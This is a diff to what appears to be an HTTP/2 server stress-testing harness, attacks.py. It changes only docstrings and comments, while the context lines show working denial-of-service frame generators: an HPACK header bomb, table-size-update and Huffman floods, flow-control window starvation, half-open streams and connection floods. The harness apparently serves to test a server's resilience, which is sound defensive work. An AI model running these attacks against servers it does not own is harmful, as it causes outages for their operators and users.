@@ -1,4 +1,4 @@
-"""Ways to hurt an HTTP/2 server, each a program: `python attacks.py <name> <socket> <seconds> <uid> <connections>`.
+"""Attacks on an HTTP/2 server, each a program: `python attacks.py <name> <socket> <seconds> <uid> <connections>`.
 
 An attacker becomes that user, if it may, connects, sends as fast as it can until it is cut, and connects again; so
 many of them at once. It prints what they saw, as JSON: how often they were connected and how often told to go, with
@@ -106,7 +106,7 @@ def window_update_flood() -> Iterator[bytes]:
 
 
 def window_drip() -> Iterator[bytes]:
-    """Ask for large answers, and grant them byte by byte."""
+    """Request large responses, and grant a window of one byte at a time."""
     block = request(LARGE)
     for stream in range(1, 20, 2):
         yield frame(HEADERS, 4, stream, block) + frame(DATA, 1, stream, MESSAGE)
@@ -115,7 +115,7 @@ def window_drip() -> Iterator[bytes]:
 
 
 def stray_data() -> Iterator[bytes]:
-    """Data for a call that is over, again and again."""
+    """DATA frames for a finished call."""
     yield frame(HEADERS, 5, 1, request(b"/no/Such"))
     while True:
         yield frame(DATA, 0, 1, bytes(200)) * 100
@@ -130,13 +130,13 @@ def hpack_bomb() -> Iterator[bytes]:
     large = literal(b"x-bomb", b"b" * 4000, indexed=True)
     yield frame(HEADERS, 5, 1, CALL + large)
     stream = 3
-    while True:  # each byte stands for the four thousand
+    while True:  # each byte refers to the header of 4,000 bytes
         yield frame(HEADERS, 5, stream, CALL + b"\xbe" * 12000)
         stream += 2
 
 
 def table_flood() -> Iterator[bytes]:
-    """Header blocks that change the size of their table, thousands of times, and say nothing."""
+    """Header blocks with thousands of table size updates and no headers."""
     stream = 1
     while True:
         yield frame(HEADERS, 5, stream, b"\x20" * 16000)
@@ -144,7 +144,7 @@ def table_flood() -> Iterator[bytes]:
 
 
 def many_fields() -> Iterator[bytes]:
-    """Calls with as many fields as they may have, a byte each."""
+    """Calls with the maximal number of headers, one byte each."""
     stream = 1
     while True:
         yield frame(HEADERS, 5, stream, request(b"/no/Such") + b"\x95" * 215)
@@ -152,7 +152,7 @@ def many_fields() -> Iterator[bytes]:
 
 
 def huffman_flood() -> Iterator[bytes]:
-    """Calls with as much metadata as they may have, in the code that takes longest to read."""
+    """Calls with the maximal metadata, in the Huffman codes that are slowest to decode."""
     stream = 1
     while True:
         large = b"\x00\x01x" + b"\xff" + _length(4800)[1:] + b"\x18\xc6\x31\x8c\x63" * 960
@@ -181,7 +181,7 @@ def unknown_method_flood() -> Iterator[bytes]:
 
 
 def half_open_streams() -> Iterator[bytes]:
-    """As many calls as are allowed, each with all but the last byte of a large message; then silence."""
+    """The maximal number of calls, each with all but the last byte of a large message; then nothing."""
     length = 1 << 20
     for stream in range(1, 200, 2):
         yield frame(HEADERS, 4, stream, CALL) + frame(DATA, 0, stream, b"\x00" + length.to_bytes(4, "big"))
@@ -192,7 +192,7 @@ def half_open_streams() -> Iterator[bytes]:
 
 
 def slow_reader() -> Iterator[bytes]:
-    """Ask for large answers, grant a window for all of them, and read nothing."""
+    """Request large responses, grant a window for all of them, and read nothing."""
     yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 2**31 - 1)) + frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\x00\x00")
     block = request(LARGE)
     for stream in range(1, 180, 2):
@@ -202,7 +202,7 @@ def slow_reader() -> Iterator[bytes]:
 
 
 def shut_window() -> Iterator[bytes]:
-    """Ask for large answers, and grant one byte of them."""
+    """Request large responses, and grant one byte of them."""
     yield frame(SETTINGS, 0, 0, struct.pack(">HL", 4, 1))
     block = request(LARGE)
     for stream in range(1, 180, 2):
@@ -212,13 +212,13 @@ def shut_window() -> Iterator[bytes]:
 
 
 def connect_flood() -> Iterator[bytes]:
-    """Connections, and nothing on them."""
+    """Connections without any data."""
     raise ConnectionAbortedError
     yield b""
 
 
 def patient_connect_flood() -> Iterator[bytes]:
-    """The same by somebody who waits for room in the server's queue, and so leaves the cores to others."""
+    """The same by a client that waits for space in the accept queue, and so does not use the CPU."""
     yield from connect_flood()
 
 
@@ -251,7 +251,7 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
     )
 }
 HURRIED = ("connect_flood", "patient_connect_flood")
-"""They do not wait to hear what the server says."""
+"""These attacks do not read from the server."""
 
 
 @dataclass
@@ -272,7 +272,7 @@ def attack(name: str, path: str, seconds: float, connections: int) -> dict[str, 
 
 
 def _ready(name: str) -> list[bytes]:
-    """The beginning of an attack, made once: the server is to be kept busy, not the machine."""
+    """The first bytes of an attack, built once, so that the attacker itself uses little CPU."""
     ready: list[bytes] = []
     if name not in HURRIED:
         for piece in ATTACKS[name]():
@@ -308,13 +308,13 @@ def _send(connection: socket.socket, pieces: Iterator[bytes], until: float) -> N
         try:
             connection.sendall(piece)
         except TimeoutError:
-            return  # the server does not read any more: as good as cut
+            return  # the server no longer reads
         if not piece:
             time.sleep(0.02)
 
 
 def _goodbye(connection: socket.socket) -> int | None:
-    """The code of the GOAWAY that came, if one did."""
+    """The error code of the GOAWAY, if one was received."""
     received = b""
     until = time.monotonic() + 0.2
     connection.settimeout(0.1)
